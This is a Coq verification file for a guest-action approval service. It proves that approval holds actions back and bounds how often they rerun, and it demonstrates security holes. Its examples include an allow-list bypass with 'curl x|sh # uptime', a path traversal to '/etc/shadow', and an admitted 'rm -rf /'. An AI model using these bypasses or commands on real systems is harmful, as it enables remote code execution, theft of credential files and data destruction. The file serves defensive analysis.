(* ===== verification/GuestActionsProps.v ===== *)
(** * What the approval of guest actions guarantees

    Theorems on [GuestActions]: an action that needs approval is held back, and how often it
    runs when calls follow each other and Redis can fail; what happens when they do not; and
    how little an allow list for commands allows to rely on. *)
From stdpp Require Import base gmap strings list.
From Stdlib Require Import ZArith Lia Ascii.
From S2P Require Import Prelude RustStr Words ControlAuth GuestActions.

Implicit Types (cf : ApiConfig) (user : option AuthUserClaims) (c : control) (a : PendingGuestAction).

(** ** Commands *)
Lemma contains_prefix p s : starts_with p s = true → contains p s = true.
Proof. intros Hp. destruct s; cbn [contains]; by rewrite Hp. Qed.
Lemma starts_with_app p s : starts_with p (p +:+ s) = true.
Proof.
  unfold starts_with. induction p as [|ch p IH]; [by destruct s|].
  change (String ch p +:+ s) with (String ch (p +:+ s)). cbn. by destruct (ascii_dec ch ch).
Qed.
Lemma contains_middle p pre post : contains p (pre +:+ (p +:+ post)) = true.
Proof.
  induction pre as [|ch pre IH]; [exact (contains_prefix p _ (starts_with_app p post))|].
  change (String ch pre +:+ (p +:+ post)) with (String ch (pre +:+ (p +:+ post))). cbn. by rewrite IH, orb_true_r.
Qed.

(** once a cluster allows one command without a trailing star, every command is
    allowed: any text in which the allowed one occurs passes, a comment is enough, and the
    text is run by the shell. *)
Theorem allowlist_allows_anything p pat command :
  gp_require_approval p = false → action_allowed p "exec" = true →
  pat ∈ gp_exec_allowlist p → ends_with_char "*"%char pat = false →
  contains "\" (command +:+ " # " +:+ pat) = false →
  contains "powershell" (str_map char_lower (command +:+ " # " +:+ pat)) = false →
  exec_admitted (Some p) (mk_ExecRequest None [] (Some (command +:+ " # " +:+ pat))) =
  Ok (gp_max_exec_output_bytes p, ("/bin/sh", ["-c"; command +:+ " # " +:+ pat])).
Proof.
  intros Hr Ha Hin Hs Hb Hp. unfold exec_admitted, checked_command, exec_program. cbn [er_command er_path er_args].
  assert (non_empty_str (Some (command +:+ " # " +:+ pat)) = Some (command +:+ " # " +:+ pat)) as -> by (by destruct command).
  cbn [mbind outcome_bind]. rewrite Hb, Hp. cbn [orb].
  assert (enforce_exec (Some p) false (command +:+ " # " +:+ pat) = Ok (gp_max_exec_output_bytes p)) as ->; [|done].
  unfold enforce_exec, with_policy. rewrite Hr, Ha. cbn [negb andb].
  destruct (gp_exec_allowlist p) as [|x l] eqn:El; [by apply elem_of_nil in Hin|]. rewrite bool_decide_eq_false_2 by done.
  assert (command_matches_allowlist (x :: l) (command +:+ " # " +:+ pat) true = true) as ->; [|done].
  unfold command_matches_allowlist. rewrite bool_decide_eq_false_2 by done. apply existsb_exists.
  exists pat. split; [by apply list_elem_of_In|]. unfold command_fits. rewrite Hs.
  apply orb_true_iff. right.
  pose proof (contains_middle pat (command +:+ " # ") "") as H. rewrite text_app_nil, text_app_assoc in H. done.
Qed.

(** ** Holding back *)
Section held.
Context `{ActionJson}.

(** a command to Redis that is not about the actions themselves. *)
Definition keeps_actions (m : control → control * api ()) : Prop :=
  ∀ c, ct_sent (m c).1 = ct_sent c ∧ ct_used (m c).1 = ct_used c ∧
    rd_keys (ct_redis (m c).1) = rd_keys (ct_redis c).
Lemma index_keeps k f :
  (∀ r, rd_keys (f r) = rd_keys r) → keeps_actions (rd_write k f).
Proof. intros Hf c. unfold rd_write. destruct (carried_out k); cbn; by rewrite ?Hf. Qed.
Lemma and_then_keeps m1 m2 : keeps_actions m1 → keeps_actions m2 → keeps_actions (and_then m1 m2).
Proof.
  intros H1 H2 c. unfold and_then. destruct (H1 c) as (Hs & Hu & Hk).
  destruct (m1 c) as [c1 [[]|e|]]; cbn in Hs, Hu, Hk |- *; [|done..].
  destruct (H2 c1) as (-> & -> & ->). done.
Qed.
(** an action is saved, whatever follows. *)
Lemma save_then k a m c :
  keeps_actions m →
  let c' := (and_then (save_pending k a) m c).1 in
  ct_sent c' = ct_sent c ∧ ct_used c' = ct_used c ∧
  rd_keys (ct_redis c') =
    if carried_out k
    then <[pending_key (pg_id a) := (action_to_json a, Some (rd_now (ct_redis c) + 86400)%Z)]> (rd_keys (ct_redis c))
    else rd_keys (ct_redis c).
Proof.
  intros Hm. unfold and_then, save_pending, rd_write. destruct k as [|[]]; cbn; [|done..].
  match goal with |- context [m ?c1] => destruct (Hm c1) as (-> & -> & ->) end. done.
Qed.
Lemma enqueue_spec io a c :
  let c' := (enqueue io a c).1 in
  ct_sent c' = ct_sent c ∧ ct_used c' = {[pg_id a]} ∪ ct_used c ∧
  rd_keys (ct_redis c') =
    if carried_out (cm_set io)
    then <[pending_key (pg_id a) := (action_to_json a, Some (rd_now (ct_redis c) + 86400)%Z)]> (rd_keys (ct_redis c))
    else rd_keys (ct_redis c).
Proof.
  apply (save_then (cm_set io) a _ (use_id (pg_id a) c)). by apply and_then_keeps; apply index_keeps.
Qed.
Lemma settle_spec io a id c :
  let c' := (settle io a id c).1 in
  ct_sent c' = ct_sent c ∧ ct_used c' = ct_used c ∧
  rd_keys (ct_redis c') =
    if carried_out (cm_set io)
    then <[pending_key (pg_id a) := (action_to_json a, Some (rd_now (ct_redis c) + 86400)%Z)]> (rd_keys (ct_redis c))
    else rd_keys (ct_redis c).
Proof. apply save_then. by apply index_keeps. Qed.

(** when the policy requires approval, asking for a restart or a support bundle sends
    nothing to the guest, and running a command and reading or writing a file are refused;
    a freeze is sent all the same. *)
Theorem approval_holds_back cf user p c :
  gp_require_approval p = true →
  (∀ io ns vm unit id stamp answer,
     ct_sent (post_restart_unit cf user (Some p) io ns vm unit id stamp answer c).1 = ct_sent c ∧
     ct_sent (post_collect_support_bundle cf user (Some p) io ns vm id stamp answer c).1 = ct_sent c) ∧
  (∀ b command, checked_command b = Ok command → exec_admitted (Some p) b =
     Err (api_bad_request "GuestActionPolicy requires approval for exec")) ∧
  (∀ write path, ∃ e, file_admitted (Some p) write path = Err e) ∧
  (∀ ns vm v, require_guest_remediation_requester cf user = Ok () →
     ct_sent (post_pre_snapshot_freeze cf user ns vm (inr v) c).1 =
     ct_sent c ++ [mk_sent_call None ns vm "guestkit.freezeFilesystem" None true]).
Proof.
  intros Hr. assert (∀ io enf x method answer,
    ct_sent (ask cf user (Some p) io enf x method answer c).1 = ct_sent c) as Hask.
  { intros io enf x method answer. unfold ask, policy_requires_approval. rewrite Hr.
    destruct (require_guest_remediation_requester cf user) as [[]| |], enf as [[]| |]; try done.
    pose proof (enqueue_spec io x c) as [He _]. by destruct (enqueue io x c) as [c' [[]| |]]. }
  split_and!.
  - intros io ns vm unit id stamp answer. split; [|apply Hask]. unfold post_restart_unit.
    destruct (require_guest_remediation_requester cf user) as [[]| |], unit as [unit|]; first [done|apply Hask].
  - intros b command Hb. unfold exec_admitted. rewrite Hb. cbn. unfold enforce_exec, with_policy. by rewrite Hr.
  - intros write path. unfold file_admitted, enforce_file_write, enforce_file_read, enforce_file, with_policy.
    rewrite Hr. destruct write; by eexists.
  - intros ns vm v Hq. unfold post_pre_snapshot_freeze. by rewrite Hq.
Qed.
End held.

(** ** Once *)
Section once.
Context `{ActionJsonLaws}.

(** the actions that ran and were answered. *)
Definition answered_for (x : sent_call) : option string := if sc_answered x then sc_action x else None.
Definition answered c : list string := omap answered_for (ct_sent c).
Definition runs_of (id : string) c : nat := length (filter (.= id) (answered c)).
(** does the call lose the record that the action was approved? *)
Definition loses_save (id : string) (e : call) : bool :=
  match e with
  | CallApprove _ _ io id' _ _ => bool_decide (id' = id) && negb (carried_out (cm_set io))
  | _ => false
  end.
Definition lost_saves (id : string) (es : list call) : nat := length (filter (loses_save id) es).

(** [lost] counts the records that were lost so far. *)
Record orderly (lost : string → nat) c : Prop := {
  or_keys : ∀ id raw u, rd_keys (ct_redis c) !! pending_key id = Some (raw, u) →
    id ∈ ct_used c ∧
    ∃ a, action_from_json raw = Some a ∧ pg_id a = id ∧ (pg_status a = "pending" → runs_of id c ≤ lost id);
  or_used : ∀ id, id ∈ answered c → id ∈ ct_used c;
  or_count : ∀ id, runs_of id c ≤ S (lost id)
}.
Lemma pending_key_inj id id' : pending_key id = pending_key id' → id = id'.
Proof. exact (inj (String.append "guest-action:pending:") id id'). Qed.
Lemma answered_log x c : answered (log_sent x c) = answered c ++ option_list (answered_for x).
Proof. unfold answered. cbn. rewrite omap_app. cbn. by destruct (answered_for x). Qed.
Lemma runs_app (id : string) l l' : length (filter (.= id) (l ++ l')) = length (filter (.= id) l) + length (filter (.= id) l').
Proof. by rewrite filter_app, length_app. Qed.
Lemma runs_none lost c id : orderly lost c → id ∉ ct_used c → runs_of id c = 0.
Proof.
  intros Ho Hid. unfold runs_of. destruct (filter (.= id) (answered c)) as [|x l] eqn:E; [done|].
  assert (x ∈ filter (.= id) (answered c)) as [-> Hx]%list_elem_of_filter by (rewrite E; by left).
  by apply (or_used lost c Ho) in Hx.
Qed.

(** a change of the stored actions: those of [c'] were in [c], or are as they have to be. *)
Lemma orderly_keys lost lost' c c' :
  orderly lost c → (∀ id, lost id ≤ lost' id) → ct_sent c' = ct_sent c → ct_used c ⊆ ct_used c' →
  (∀ id raw u, rd_keys (ct_redis c') !! pending_key id = Some (raw, u) →
     rd_keys (ct_redis c) !! pending_key id = Some (raw, u) ∨
     (id ∈ ct_used c' ∧
      ∃ a, action_from_json raw = Some a ∧ pg_id a = id ∧ (pg_status a = "pending" → runs_of id c ≤ lost' id))) →
  orderly lost' c'.
Proof.
  intros [Hk Hu Hn] Hle Hs Hsub Hkeys.
  assert (answered c' = answered c) as Ea by (unfold answered; by rewrite Hs).
  assert (∀ id, runs_of id c' = runs_of id c) as Er by (intros id; unfold runs_of; by rewrite Ea).
  split.
  - intros id raw u Hl. rewrite Er. destruct (Hkeys id raw u Hl) as [Hl'|?]; [|done].
    destruct (Hk id raw u Hl') as (Hin & a & Hj & Hid & Hp). split; [set_solver|]. exists a. split_and!; try done.
    intros Hpend. specialize (Hp Hpend). specialize (Hle id). lia.
  - rewrite Ea. set_solver.
  - intros id. rewrite Er. specialize (Hn id). specialize (Hle id). lia.
Qed.
(** an action is stored whose identifier is known and which does not wait any more, or has
    not run. *)
Lemma stored_keys (b : bool) lost c a until id raw u :
  pg_id a ∈ ct_used c → (pg_status a = "pending" → runs_of (pg_id a) c ≤ lost (pg_id a)) →
  (if b then <[pending_key (pg_id a) := (action_to_json a, until)]> (rd_keys (ct_redis c))
   else rd_keys (ct_redis c)) !! pending_key id = Some (raw, u) →
  rd_keys (ct_redis c) !! pending_key id = Some (raw, u) ∨
  (id ∈ ct_used c ∧
   ∃ a, action_from_json raw = Some a ∧ pg_id a = id ∧ (pg_status a = "pending" → runs_of id c ≤ lost id)).
Proof.
  intros Hin Hp. destruct b; [|by left]. rewrite lookup_insert_Some. intros [[E [= <- <-]]|[_ Hl]]; [|by left].
  apply pending_key_inj in E as <-. right. split; [done|]. exists a. by rewrite action_json_round_trip.
Qed.

Lemma orderly_use lost c id : orderly lost c → orderly lost (use_id id c).
Proof. intros Ho. apply (orderly_keys lost lost c); [done|done|done|set_solver|auto]. Qed.
Lemma orderly_enqueue lost io a c : orderly lost c → pg_id a ∉ ct_used c → orderly lost (enqueue io a c).1.
Proof.
  intros Ho Hf. destruct (enqueue_spec io a c) as (Hs & Hu & Hk).
  apply (orderly_keys lost lost (use_id (pg_id a) c)); [by apply orderly_use|done|done|set_solver|].
  intros id raw u. rewrite Hk, Hu. change (rd_keys (ct_redis c)) with (rd_keys (ct_redis (use_id (pg_id a) c))) at 1 2.
  apply (stored_keys _ lost (use_id (pg_id a) c)); [set_solver|].
  intros _. change (runs_of (pg_id a) c ≤ lost (pg_id a)). rewrite (runs_none lost) by done. lia.
Qed.
Lemma orderly_settle lost io a id c :
  orderly lost c → pg_id a ∈ ct_used c → pg_status a ≠ "pending" → orderly lost (settle io a id c).1.
Proof.
  intros Ho Hin Hst. destruct (settle_spec io a id c) as (Hs & Hu & Hk).
  apply (orderly_keys lost lost c); [done|done|done|set_solver|].
  intros id' raw u. rewrite Hk, Hu. by apply stored_keys.
Qed.
Lemma loaded cf user io id lost c a :
  orderly lost c → load_for_decision cf user io id c = Ok a →
  pg_id a = id ∧ id ∈ ct_used c ∧ runs_of id c ≤ lost id.
Proof.
  intros [Hk Hu Hn]. unfold load_for_decision. rewrite outcome_bind_Ok. intros (x & _ & Ha). revert Ha.
  rewrite outcome_bind_Ok. intros (a' & Hl & Ha). destruct (String.eqb_spec (pg_status a') "pending") as [Hp|]; [|done].
  injection Ha as ->. unfold load_pending, rd_get in Hl. destruct (cm_get io); [|done].
  destruct (rd_keys (ct_redis c) !! pending_key id) as [[raw u]|] eqn:E; [|done].
  destruct (Hk id raw u E) as (Hin & a' & Hj & Hid & Hna).
  assert (a = a') as -> by (destruct u as [u|]; [destruct (_ <? u)%Z|]; cbn in Hl; rewrite ?Hj in Hl; congruence).
  auto.
Qed.
Lemma orderly_log lost x c : orderly lost c → answered_for x = None → orderly lost (log_sent x c).
Proof.
  intros [Hk Hu Hn] Hx. assert (answered (log_sent x c) = answered c) as E.
  { rewrite answered_log, Hx. apply app_nil_r. }
  split; unfold runs_of; rewrite ?E; done.
Qed.
(** an answered run: either it is recorded, or a record is lost. *)
Lemma orderly_answered lost io x a c :
  orderly lost c → answered_for x = Some (pg_id a) → pg_id a ∈ ct_used c → runs_of (pg_id a) c ≤ lost (pg_id a) →
  pg_status a ≠ "pending" →
  orderly (fun id => lost id + if bool_decide (pg_id a = id) && negb (carried_out (cm_set io)) then 1 else 0)
    (settle io a (pg_id a) (log_sent x c)).1.
Proof.
  intros [Hk Hu Hn] Hx Hin Hle Hst. destruct (settle_spec io a (pg_id a) (log_sent x c)) as (Es & Eu & Ek).
  assert (answered (settle io a (pg_id a) (log_sent x c)).1 = answered c ++ [pg_id a]) as E.
  { unfold answered. rewrite Es. change (answered (log_sent x c) = answered c ++ [pg_id a]). by rewrite answered_log, Hx. }
  assert (∀ id, runs_of id (settle io a (pg_id a) (log_sent x c)).1 =
    runs_of id c + if bool_decide (pg_id a = id) then 1 else 0) as Er.
  { intros id. unfold runs_of. rewrite E, runs_app. f_equal. rewrite filter_cons, filter_nil.
    by destruct (decide (pg_id a = id)); [rewrite bool_decide_eq_true_2|rewrite bool_decide_eq_false_2]. }
  split.
  - intros id raw u. rewrite Ek, Eu, Er. destruct (carried_out (cm_set io)) eqn:Ec.
    + rewrite lookup_insert_Some. intros [[Ekey [= <- <-]]|[Hne Hl]].
      * apply pending_key_inj in Ekey as <-. split; [done|]. exists a. rewrite action_json_round_trip. by split_and!.
      * destruct (Hk id raw u Hl) as (Hid & a' & Hj & Hid' & Hp). split; [done|]. exists a'. split_and!; try done.
        rewrite bool_decide_eq_false_2 by congruence. cbn. intros Hpend. specialize (Hp Hpend). lia.
    + intros Hl. destruct (Hk id raw u Hl) as (Hid & a' & Hj & Hid' & Hp). split; [done|]. exists a'. split_and!; try done.
      rewrite andb_true_r. intros Hpend. specialize (Hp Hpend). lia.
  - intros id. rewrite E, Eu, elem_of_app, list_elem_of_singleton. intros [?| ->]; [by apply Hu|done].
  - intros id. rewrite Er. specialize (Hn id). case_bool_decide as Hid; [subst id|]; cbn; lia.
Qed.
(** what is sent for an action. *)
Lemma execute_cases policy a answer c c' r :
  execute_pending policy a answer c = (c', r) →
  (c' = c ∧ ∀ v, r ≠ Ok v) ∨
  ∃ x, c' = log_sent x c ∧ answered_for x = match r with Ok _ => Some (pg_id a) | _ => None end.
Proof.
  unfold execute_pending, pull_for_vm. intros H1.
  repeat case_match; simplify_eq; first [by left|right; by eexists].
Qed.
Lemma orderly_more lost lost' c : orderly lost c → (∀ id, lost id ≤ lost' id) → orderly lost' c.
Proof. intros Ho Hle. apply (orderly_keys lost lost' c); auto. Qed.
Lemma orderly_approve lost cf user policy io id answer stamp c :
  orderly lost c →
  orderly (fun x => lost x + if bool_decide (id = x) && negb (carried_out (cm_set io)) then 1 else 0)
    (approve_guest_action cf user policy io id answer stamp c).1.
Proof.
  intros Ho. set (lost' := fun x : string => _).
  assert (∀ c, orderly lost c → orderly lost' c) as Hmore by (intros c0 Hc0; apply (orderly_more lost); [done|unfold lost'; lia]).
  unfold approve_guest_action. destruct (load_for_decision cf user io id c) as [a|e|] eqn:El; [|by apply Hmore..].
  destruct (loaded cf user io id lost c a Ho El) as (<- & Hin & Hle).
  destruct (execute_pending policy a answer c) as [c' r] eqn:Ee.
  apply execute_cases in Ee as [[-> Hr]|(x & -> & Hx)].
  - destruct r as [v|e|]; [by destruct (Hr v)|by apply Hmore|by apply Hmore].
  - destruct r as [v|e|]; [|by apply Hmore, orderly_log..].
    pose proof (orderly_answered lost io x (settled "approved" stamp (actor_label <$> user) (Some v) a) c Ho Hx Hin Hle
      ltac:(done)) as Ha. cbn [pg_id settled] in Ha.
    by destruct (settle io _ _ _) as [c'' [[]|e|]].
Qed.
Lemma orderly_reject lost cf user io id stamp c :
  orderly lost c → orderly lost (reject_guest_action cf user io id stamp c).1.
Proof.
  intros Ho. unfold reject_guest_action. destruct (load_for_decision cf user io id c) as [a|e|] eqn:El; [|done..].
  destruct (loaded cf user io id lost c a Ho El) as (<- & Hin & _). by apply orderly_settle.
Qed.
Lemma orderly_ask lost cf user policy io enf a method answer c :
  orderly lost c → pg_id a ∉ ct_used c → orderly lost (ask cf user policy io enf a method answer c).1.
Proof.
  intros Ho Hf. unfold ask. destruct (require_guest_remediation_requester cf user), enf; try done.
  destruct (policy_requires_approval policy).
  - pose proof (orderly_enqueue lost io a c Ho Hf) as He. by destruct (enqueue io a c) as [c' [[]|e|]].
  - unfold pull_for_vm. destruct answer; by apply orderly_log.
Qed.
Lemma orderly_step lost cf e c c' :
  orderly lost c → call_step cf e c = Some c' →
  orderly (fun id => lost id + if loses_save id e then 1 else 0) c'.
Proof.
  intros Ho. assert (∀ c, orderly lost c → orderly (fun id => lost id + 0) c) as Hmore
    by (intros c0 Hc0; apply (orderly_more lost); [done|lia]).
  destruct e as [user policy io ns vm unit id stamp answer|user policy io ns vm id stamp answer|
    user policy io id stamp answer|user io id stamp|n]; cbn.
  - case_bool_decide; [done|]. intros [= <-]. apply Hmore. unfold post_restart_unit.
    destruct (require_guest_remediation_requester cf user), unit; try done. by apply orderly_ask.
  - case_bool_decide; [done|]. intros [= <-]. apply Hmore. by apply orderly_ask.
  - intros [= <-]. by apply orderly_approve.
  - intros [= <-]. apply Hmore. by apply orderly_reject.
  - intros [= <-]. apply Hmore. destruct Ho as [Hk Hu Hn]. by split.
Qed.
Lemma lost_cons id e es : lost_saves id (e :: es) = (if loses_save id e then 1 else 0) + lost_saves id es.
Proof.
  unfold lost_saves. rewrite filter_cons. destruct (decide (loses_save id e)) as [Hd|Hd].
  - apply Is_true_true in Hd as ->. done.
  - apply Is_true_false in Hd as ->. done.
Qed.
Lemma orderly_run cf es : ∀ lost c0 c,
  orderly lost c0 → calls_run cf es c0 = Some c → orderly (fun id => lost id + lost_saves id es) c.
Proof.
  induction es as [|e es IH]; intros lost c0 c Ho; cbn [calls_run].
  - intros [= <-]. apply (orderly_more lost); [done|lia].
  - destruct (call_step cf e c0) as [c1|] eqn:E; [|done]. cbn [mbind option_bind]. intros Hc.
    eapply orderly_more; [eapply IH; [by eapply orderly_step|exact Hc]|].
    intros id. rewrite lost_cons. lia.
Qed.

(** C19: when calls follow each other, however they are ordered, whoever makes them and
    whichever commands to Redis fail, an action runs to an answer at most once more often
    than the record of one of its approvals was lost (the write to Redis after the run
    failed and was not carried out).  So it runs at most once as long as no record is lost,
    also when it is approved again, rejected before or after, its entry expires, or a
    command fails that reads the action, or one after which the record is there.  Only
    actions with an identifier that was handed out run.  ([lost_record_runs_again] is a run
    in which the bound is reached.) *)
Theorem approved_actions_run_once cf es c :
  calls_run cf es no_control = Some c →
  (∀ id, runs_of id c ≤ 1 + lost_saves id es) ∧ ∀ id, id ∈ answered c → id ∈ ct_used c.
Proof.
  intros Hc. apply (orderly_run cf es (fun _ => 0)) in Hc as [_ Hu Hn].
  - split; [exact Hn|exact Hu].
  - split; [|by intros id Hin%elem_of_nil|intros id; cbn; lia].
    intros id raw u. cbn. by rewrite lookup_empty.
Qed.
End once.

(** ** Examples *)
Definition toy_action : PendingGuestAction :=
  new_action "id-1" "restart_unit" "prod" "db" (Some "sshd.service") "2026-01-01" (Some "uma").
(** an action as the binary digits of its number. *)
Definition action_fields a :=
  (pg_id a, pg_action a, pg_namespace a, pg_vm_name a, pg_unit a, pg_status a, pg_created_at a, pg_requested_by a,
   pg_approved_at a, pg_approved_by a, pg_rejected_at a, pg_rejected_by a, pg_result a).
Definition action_of_fields f : PendingGuestAction :=
  let '(id, act, ns, vm, unit, st, cr, rq, aa, ab, ra, rb, rs) := f in
  mk_PendingGuestAction id act ns vm unit st cr rq aa ab ra rb rs.
#[local] Instance toy_action_json : ActionJson := {|
  action_to_json a := digits_of (encode (action_fields a));
  action_from_json s := action_of_fields <$> decode (number_of s)
|}.
#[local] Instance toy_action_json_laws : ActionJsonLaws.
Proof. split. intros []. unfold action_from_json, action_to_json, toy_action_json. by rewrite number_of_digits, decode_encode. Qed.
Definition open_config : ApiConfig := mk_ApiConfig false "dev" "guestkit" "operator" None None.
Definition strict_policy : GuestActionPolicySpec := mk_GuestActionPolicySpec [] [] ["uptime"] [] [] false 1024 true.
Notation waiting := (enqueue all_acked toy_action no_control).1.

(** two approvals at the same time run the action twice; a rejection that overtakes the end
    of an approval leaves an action that ran recorded as rejected. *)
Example approvals_race :
  (answered <$> flights_run open_config
     [StartApprove 1 None all_acked "id-1"; StartApprove 2 None all_acked "id-1"; Run 1 (Some strict_policy) (inr "ok");
      Finish 1 all_acked "t"; Run 2 (Some strict_policy) (inr "ok"); Finish 2 all_acked "t"] waiting) = Some ["id-1"; "id-1"] ∧
  (fun c => (answered c, pg_status <$> (rd_get (ct_redis c) (pending_key "id-1") ≫= action_from_json))) <$> flights_run open_config
     [StartApprove 1 None all_acked "id-1"; StartReject 2 None all_acked "id-1"; Run 1 (Some strict_policy) (inr "ok");
      Finish 1 all_acked "t"; Finish 2 all_acked "t"] waiting = Some (["id-1"], Some "rejected").
Proof. split; vm_compute; reflexivity. Qed.
(** a path that is allowed by its beginning leaves it again. *)
Example path_prefix_escapes :
  let p := mk_GuestActionPolicySpec [] [] [] ["/var/log"] [] true 1024 false in
  file_admitted (Some p) false "/var/log/../../etc/shadow" = Ok () ∧
  file_admitted (Some p) false "/var/logs-of-others/x" = Ok () ∧
  exec_admitted None (mk_ExecRequest None [] (Some "rm -rf /")) = Ok (default_max_output, ("/bin/sh", ["-c"; "rm -rf /"])).
Proof. split_and!; vm_compute; reflexivity. Qed.

Lemma allowlist_allows_anything_witness :
  exec_admitted (Some (mk_GuestActionPolicySpec [] [] ["uptime"] [] [] true 1024 false)) (mk_ExecRequest None [] (Some ("curl x|sh" +:+ " # " +:+ "uptime"))) =
  Ok (1024%Z, ("/bin/sh", ["-c"; "curl x|sh" +:+ " # " +:+ "uptime"])).
Proof.
  apply (allowlist_allows_anything (mk_GuestActionPolicySpec [] [] ["uptime"] [] [] true 1024 false) "uptime" "curl x|sh");
    [reflexivity|reflexivity|apply list_elem_of_here|reflexivity|vm_compute; reflexivity|vm_compute; reflexivity].
Defined.
Lemma approval_holds_back_witness :
  ct_sent (post_pre_snapshot_freeze open_config None "prod" "db" (inr "ok") no_control).1 =
  [] ++ [mk_sent_call None "prod" "db" "guestkit.freezeFilesystem" None true].
Proof.
  destruct (approval_holds_back open_config None strict_policy no_control eq_refl) as (_ & _ & _ & Hf).
  exact (Hf "prod" "db" "ok" eq_refl).
Defined.
(** the calls on one action; the second approval is answered and its record is lost when
    [saved] is not carried out. *)
Notation toy_calls saved :=
  [CallRestart None (Some strict_policy) all_acked "prod" "db" (Some "sshd.service") "id-1" "t0" (inr "ok");
   CallApprove None (Some strict_policy) all_acked "id-1" "t1" (inl "timeout");
   CallApprove None (Some strict_policy) (mk_redis_replies Acked saved Acked Acked) "id-1" "t2" (inr "ok");
   CallApprove None (Some strict_policy) all_acked "id-1" "t3" (inr "ok"); CallReject None all_acked "id-1" "t4"].
Lemma toy_calls_run (saved : redis_reply) : ∃ c,
  calls_run open_config (toy_calls saved) no_control = Some c ∧
  answered c = if carried_out saved then ["id-1"] else ["id-1"; "id-1"].
Proof.
  assert (answered <$> calls_run open_config (toy_calls saved) no_control =
    Some (if carried_out saved then ["id-1"] else ["id-1"; "id-1"])) as Ha
    by (destruct saved as [|[]]; vm_compute; reflexivity).
  destruct (calls_run open_config (toy_calls saved) no_control) as [c|]; [|discriminate Ha]. injection Ha as Ha. by exists c.
Qed.
(** the write of the record fails after the action ran: the action still waits, and the next
    approval runs it again. *)
Example lost_record_runs_again : ∃ c,
  calls_run open_config (toy_calls (Failed false)) no_control = Some c ∧
  runs_of "id-1" c = 2 ∧ lost_saves "id-1" (toy_calls (Failed false)) = 1.
Proof.
  destruct (toy_calls_run (Failed false)) as (c & Hc & Ha). exists c. split; [exact Hc|].
  unfold runs_of. rewrite Ha. split; reflexivity.
Qed.
Lemma approved_actions_run_once_witness : ∃ c,
  calls_run open_config (toy_calls (Failed true)) no_control = Some c ∧ runs_of "id-1" c ≤ 1.
Proof.
  destruct (toy_calls_run (Failed true)) as (c & Hc & _). exists c. split; [exact Hc|].
  exact (proj1 (approved_actions_run_once open_config (toy_calls (Failed true)) c Hc) "id-1").
Defined.
